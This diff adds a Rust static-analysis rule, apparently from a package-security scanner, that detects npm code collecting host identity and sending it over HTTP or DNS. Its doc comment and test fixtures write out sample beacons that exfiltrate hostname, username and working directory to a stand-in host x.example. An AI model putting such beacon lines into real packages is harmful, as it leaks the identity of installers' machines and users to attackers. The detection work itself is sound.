@@ -1,0 +1,90 @@
+use std::collections::BTreeSet;
+
+use crate::context::FileContext;
+use crate::report::{Confidence, Finding, Severity};
+use crate::rule::{Rule, RuleMeta, declare_rule};
+use crate::rules::is_network_call;
+
+/// Calls and members that identify the machine or the person.
+const PERSONAL_SOURCES: &[&str] = &[
+    "os.hostname", "os.userInfo", "os.networkInterfaces", "dns.getServers", "os.homedir", "process.cwd",
+    "os.userInfo.username", "process.env.USER", "process.env.USERNAME", "process.env.COMPUTERNAME",
+    "process.env.HOSTNAME", "process.env.npm_package_name",
+];
+
+declare_rule! {
+    /// ### What it does
+    /// Finds files that collect identifying facts about the host (hostname, user name, home and
+    /// working directories, network interfaces, DNS servers), encode or serialise them, and make
+    /// network or DNS requests: two sources with a network call is medium, three or more
+    /// serialised ones high.
+    ///
+    /// ### Why is this bad?
+    /// This is the beacon of dependency-confusion and reconnaissance packages (hundreds of
+    /// `99.x` "research" packages, the 2024 `persona-tool` DNS exfiltration): it tells the
+    /// attacker which company installed the package before the next stage is sent.
+    ///
+    /// ### Examples
+    /// Incorrect:
+    /// ```js
+    /// https.get('https://x.example/?d=' + Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() })).toString('hex'));
+    /// ```
+    /// Correct:
+    /// ```js
+    /// const cacheDir = path.join(os.homedir(), '.cache', 'tool');
+    /// ```
+    HostFingerprinting, "host-fingerprinting", Credentials
+}
+
+impl Rule for HostFingerprinting {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
+        let Some(facts) = file.js else { return };
+        let Some(network) = facts.calls.iter().find(|call| is_network_call(&call.callee)) else { return };
+        let mut sources = BTreeSet::new();
+        for call in &facts.calls {
+            if PERSONAL_SOURCES.contains(&call.callee.as_str()) {
+                sources.insert(call.callee.as_str());
+            }
+        }
+        for member in &facts.members {
+            if PERSONAL_SOURCES.contains(&member.path.as_str()) {
+                sources.insert(member.path.as_str());
+            }
+        }
+        // `os.homedir` and `process.cwd` alone are everyday calls; require a real identifier.
+        let identifying = sources.iter().any(|source| matches!(*source, "os.hostname" | "os.userInfo" | "os.networkInterfaces" | "dns.getServers" | "os.userInfo.username" | "process.env.USER" | "process.env.USERNAME" | "process.env.COMPUTERNAME" | "process.env.HOSTNAME"));
+        if sources.len() < 2 || !identifying {
+            return;
+        }
+        let serialises = facts.calls.iter().any(|call| {
+            matches!(call.callee.as_str(), "JSON.stringify" | "querystring.stringify" | "btoa")
+                || call.callee.ends_with("toString") && call.arguments.first().and_then(|argument| argument.constant.as_deref()).is_some_and(|encoding| encoding == "hex" || encoding == "base64")
+        });
+        let list: Vec<&str> = sources.into_iter().collect();
+        let severity = if list.len() >= 3 && serialises { Severity::High } else { Severity::Medium };
+        out.push(file.finding(&Self::META, severity, Confidence::Medium, Some(network.offset as usize), format!("collects host identity ({}) and makes network requests", list.join(", ")), None));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tester::test_rule;
+
+    #[test]
+    fn test() {
+        let pass = vec![
+            "const os = require('os'); const dir = require('path').join(os.homedir(), '.cache');".into(),
+            "const os = require('os'); console.log(os.hostname(), process.cwd());".into(),
+        ];
+        let fail = vec![
+            "const os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() }); https.get('https://x.example/?d=' + Buffer.from(d).toString('hex'));".into(),
+            "const os = require('os'); const dns = require('dns'); dns.lookup(os.hostname() + '.' + dns.getServers()[0] + '.x.example', () => {});".into(),
+        ];
+        test_rule(HostFingerprinting::META.name, pass, fail);
+    }
+}
